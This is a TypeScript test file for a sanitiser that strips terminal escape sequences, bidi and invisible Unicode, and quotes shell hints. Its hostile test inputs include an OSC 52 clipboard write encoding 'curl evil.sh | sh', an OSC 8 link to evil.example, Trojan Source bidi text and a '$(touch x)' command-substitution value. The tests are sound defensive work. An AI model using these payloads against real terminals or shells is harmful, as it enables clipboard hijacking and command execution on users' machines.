import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeUnsafe, inertJson, LINE_MAX, sanitizeDeep, sanitizeLine, sanitizeText, shellQuote, shellWords } from '../../../src/domain/text/sanitize.js';

const ESC = '\x1b';

describe('sanitizeText: hostile samples', () => {
  const cases: [string, string, string][] = [
    ['cursor movement', `Agent${ESC}[2A${ESC}[10Cfake`, 'Agent\uFFFDfake'],
    ['screen clear and home', `${ESC}[2J${ESC}[HAdmin`, '\uFFFDAdmin'],
    ['SGR colour', `${ESC}[31;1mred${ESC}[0m`, '\uFFFDred\uFFFD'],
    ['private mode (hide cursor, alt screen)', `${ESC}[?25l${ESC}[?1049hx`, '\uFFFDx'],
    ['OSC 52 clipboard write, BEL', `a${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07b`, 'a\uFFFDb'],
    ['OSC 52 clipboard write, ST', `a${ESC}]52;c;Y3VybA==${ESC}\\b`, 'a\uFFFDb'],
    ['OSC 8 hyperlink', `${ESC}]8;;https://evil.example/${ESC}\\click me${ESC}]8;;${ESC}\\`, '\uFFFDclick me\uFFFD'],
    ['window title', `${ESC}]0;pwned\x07name`, '\uFFFDname'],
    ['DCS string', `x${ESC}P1$r0m${ESC}\\y`, 'x\uFFFDy'],
    ['APC / PM / SOS strings', `1${ESC}_apc${ESC}\\2${ESC}^pm${ESC}\\3${ESC}Xsos${ESC}\\4`, '1\uFFFD2\uFFFD3\uFFFD4'],
    ['single-char ESC sequences', `${ESC}7${ESC}cA${ESC}(BB${ESC}M`, '\uFFFDA\uFFFDB\uFFFD'],
    ['8-bit CSI', 'a\x9b2Jb\x9b31mc', 'a\uFFFDb\uFFFDc'],
    ['8-bit OSC ended by 8-bit ST', 'a\x9d52;c;QUFB\x9cb', 'a\uFFFDb'],
    ['other C1 controls', 'a\x85b\x8dc\x80d', 'a\uFFFDb\uFFFDc\uFFFDd'],
    ['C0 controls, DEL, backspace overwrite', 'ab\x08\x08XY\x00\x07\x7fz', 'ab\uFFFDXY\uFFFDz'],
    ['carriage return overwrite', 'safe\rEVIL', 'safe\nEVIL'],
    ['bidi override (Trojan Source)', 'Agent\u202Enimda\u202C', 'Agent\uFFFDnimda\uFFFD'],
    ['bidi isolates and marks', '\u2066a\u2067b\u2068c\u2069\u200Ed\u200F\u061C', '\uFFFDa\uFFFDb\uFFFDc\uFFFDd\uFFFD'],
    ['zero-width space and BOM', 'Ad\u200Bmin\uFEFF', 'Ad\uFFFDmin\uFFFD'],
    ['Unicode tag characters (invisible text)', 'hi\u{E0041}\u{E0042}!', 'hi\uFFFD!'],
    ['ESC at the end', `end${ESC}`, 'end\uFFFD'],
    ['OSC aborted by a new CSI', `${ESC}]0;title${ESC}[31mred`, '\uFFFDred'],
    ['unterminated OSC swallows the rest', `ok${ESC}]52;c;AAAA`, 'ok\uFFFD'],
    ['CSI aborted by a control', `a${ESC}[12\nb`, 'a\uFFFD\nb'],
  ];
  it.each(cases)('%s', (_name, input, expected) => {
    expect(sanitizeText(input)).toBe(expected);
  });

  it('keeps ordinary text, accents, CJK, emoji and joiners', () => {
    const text = 'Équipe 東京 👩‍💻 support — 100% ✓';
    expect(sanitizeText(text)).toBe(text);
  });

  it('turns tabs into spaces unless asked to keep them; keeps or flattens newlines', () => {
    expect(sanitizeText('a\tb\r\nc')).toBe('a b\nc');
    expect(sanitizeText('a\tb', { tabs: 'keep' })).toBe('a\tb');
    expect(sanitizeText('a\nb\u2028c', { newlines: 'space' })).toBe('a b c');
    expect(sanitizeLine('line 1\nline 2\tend')).toBe('line 1 line 2 end');
  });

  it('replaces lone surrogates', () => {
    expect(sanitizeText('a\uD800b')).toBe('a\uFFFDb');
  });
});

describe('sanitizeDeep', () => {
  it('returns a sanitised copy of every string and key, leaving the input alone', () => {
    const input = { Description: `x${ESC}[2J`, Tags: [{ Key: 'k\u202E', Value: `${ESC}]52;c;AA\x07v` }], n: 3, ok: true, none: null };
    const out = sanitizeDeep(input);
    expect(out).toEqual({ Description: 'x\uFFFD', Tags: [{ Key: 'k\uFFFD', Value: '\uFFFDv' }], n: 3, ok: true, none: null });
    expect(input.Description).toBe(`x${ESC}[2J`);
  });

  it('keeps a hostile __proto__ key as data', () => {
    const parsed = JSON.parse('{"__proto__": {"polluted": true}, "a": "b"}') as Record<string, unknown>;
    const out = sanitizeDeep(parsed);
    expect(Object.getPrototypeOf(out)).toBe(Object.prototype);
    expect(Object.keys(out)).toEqual(['__proto__', 'a']);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('sanitizeText: properties', () => {
  // Strings rich in the characters that matter: controls, ESC, C1, bidi, brackets that form sequences.
  const hostileChar = fc.oneof(
    fc.constantFrom('\x1b', '[', ']', '\\', '\x07', '\x9b', '\x9c', '\x9d', '\x90', 'P', '_', '^', 'X', ';', '2', 'J', 'm', '?'),
    fc.constantFrom('\u202E', '\u2066', '\u200E', '\u200B', '\uFEFF', '\n', '\r', '\t', '\uD800', '\uDC00', '\uDB40', '\uDC41'),
    fc.integer({ min: 0, max: 0x9f }).map((c) => String.fromCharCode(c)),
    fc.string({ unit: 'grapheme', maxLength: 1 }),
  );
  const hostile = fc.array(hostileChar, { maxLength: 40 }).map((cs) => cs.join(''));
  const forbidden = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061C\u200B\u200E\u200F\u202A-\u202E\u2066-\u2069\uFEFF]|\uDB40[\uDC00-\uDC7F]/;

  it('never leaves ESC, C0/C1 controls or bidi characters, and is idempotent', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const once = sanitizeText(s);
        expect(forbidden.test(once)).toBe(false);
        expect(sanitizeText(once)).toBe(once);
        const line = sanitizeLine(s);
        expect(/[\n\t]/.test(line)).toBe(false);
        expect(sanitizeLine(line)).toBe(line);
      }),
      { numRuns: 500 },
    );
  });

  it('leaves printable text unchanged', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)) }), (s) => {
        expect(sanitizeText(s)).toBe(s);
      }),
    );
  });
});

describe('what is removed shows, long text is cut, data is escaped, hints are quoted', () => {
  it('one mark per removed run, however many sequences it held', () => {
    expect(sanitizeText(`a${ESC}[2J${ESC}]52;c;AA\x07\u202E\u200Bb`)).toBe('a\uFFFDb');
    expect(sanitizeText('plain')).toBe('plain');
  });

  it('cuts text past the display limit with an ellipsis, cheaply (the data is not touched)', () => {
    const huge = 'N'.repeat(1_000_000);
    expect(sanitizeLine(huge)).toBe(`${'N'.repeat(LINE_MAX)}…`);
    expect(sanitizeText(huge, { maxLength: 10 })).toBe('NNNNNNNNNN…');
  });

  it('escapeUnsafe writes C1, DEL, bidi and separators as \\u escapes that JSON reads back exactly', () => {
    const text = 'a\u009b2Jb\u202Ec\u2028d\u007fe';
    const json = inertJson({ text });
    expect(json).not.toMatch(/[\u007f-\u009f\u202a-\u202e\u2028]/);
    expect(JSON.parse(json)).toEqual({ text });
    expect(escapeUnsafe('\u0085')).toBe('\\u0085');
  });

  it('shellQuote makes a hint that pastes as one inert word', () => {
    expect(shellQuote('Americas/Support')).toBe('Americas/Support');
    expect(shellQuote('Americas$(touch x)')).toBe("'Americas$(touch x)'");
    expect(shellQuote("it's `x` !y")).toBe("'it'\\''s `x` !y'");
    expect(shellQuote(`a${ESC}]52;c;AA\x07b`)).toBe("'a\uFFFDb'");
  });

  it('shellWords reads back the words of a command written with shellQuote', () => {
    const names = ['acme', 'my session', "it's `x` !y", 'Americas$(touch x)'];
    for (const name of names) expect(shellWords(`aws sso login --sso-session ${shellQuote(name)}`)).toEqual(['aws', 'sso', 'login', '--sso-session', name]);
    expect(shellWords('  a   b ')).toEqual(['a', 'b']);
  });
});
